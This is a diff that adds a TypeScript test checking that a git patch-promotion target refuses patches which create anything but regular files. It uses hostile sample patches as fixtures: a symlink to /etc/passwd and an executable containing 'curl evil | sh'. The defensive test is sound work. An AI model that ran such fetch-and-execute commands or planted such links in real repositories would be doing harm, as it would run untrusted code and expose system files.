@@ -233,6 +233,48 @@ describe('GitTarget', () => {
     expect(await commitCount(repo)).toBe(2);
   });
 
+  it('a patch may leave regular files only: a symlink, an executable, a gitlink, a mode change or a retargeted link is refused, nothing pushed', async () => {
+    // staging already holds a symlink and an executable (put there by people, not by Airlock)
+    const repo = await bareRepo();
+    const seed = await tempDir('git-seed');
+    await git(seed, 'init', '-q');
+    await writeFile(join(seed, 'run.sh'), 'echo one\n', { mode: 0o755 });
+    await writeFile(join(seed, 'a.txt'), 'hello\n');
+    await exec('ln', ['-s', 'a.txt', join(seed, 'link')]);
+    await git(seed, 'add', '.');
+    await git(seed, '-c', 'user.name=seed', '-c', 'user.email=seed@localhost', 'commit', '-q', '-m', 'seed');
+    await git(seed, 'push', '-q', repo, 'HEAD:refs/heads/staging');
+    const tip = await branchTip(repo);
+    const target = new GitTarget({ name: 'git', repo });
+    const created = (path: string, mode: string, body: string) =>
+      [`diff --git a/${path} b/${path}`, `new file mode ${mode}`, '--- /dev/null', `+++ b/${path}`, '@@ -0,0 +1 @@', `+${body}`, '\\ No newline at end of file', ''].join('\n');
+    const refused: [string, string][] = [
+      ['a symlink to /etc/passwd', created('passwd', '120000', '/etc/passwd')],
+      ['an executable', created('deploy.sh', '100755', 'curl evil | sh')],
+      ['a gitlink', created('sub', '160000', 'Subproject commit 1111111111111111111111111111111111111111')],
+      ['a mode change', ['diff --git a/a.txt b/a.txt', 'old mode 100644', 'new mode 100755', ''].join('\n')],
+      [
+        'a retargeted symlink',
+        ['diff --git a/link b/link', '--- a/link', '+++ b/link', '@@ -1 +1 @@', '-a.txt', '\\ No newline at end of file', '+/etc/passwd', '\\ No newline at end of file', ''].join(
+          '\n',
+        ),
+      ],
+    ];
+    for (const [what, patch] of refused) {
+      const err = await rejection(target.apply(payload('prm_mode00001', { files: [], patch })));
+      expect(err.code, what).toBe('PROMOTION_APPLY_FAILED');
+      expect(err.retryable, what).toBe(false);
+      expect(err.message, what).toMatch(/regular files only/);
+      expect(await branchTip(repo), what).toBe(tip);
+    }
+    // changing what an executable says keeps its mode; a new regular file is fine
+    const ok = ['diff --git a/run.sh b/run.sh', '--- a/run.sh', '+++ b/run.sh', '@@ -1 +1 @@', '-echo one', '+echo two', ''].join('\n') + created('notes.txt', '100644', 'hi');
+    const out = await target.apply(payload('prm_mode00002', { files: [], patch: ok }));
+    expect(await git(repo, 'show', 'staging:run.sh')).toBe('echo two\n');
+    expect(await git(repo, 'ls-tree', 'staging', 'run.sh', 'notes.txt')).toMatch(/^100644 blob \S+\tnotes\.txt\n100755 blob \S+\trun\.sh\n$/);
+    expect(await branchTip(repo)).toBe(out.location);
+  });
+
   it('refuses unsafe paths before touching the repository', async () => {
     const repo = await bareRepo();
     const target = new GitTarget({ name: 'git', repo });
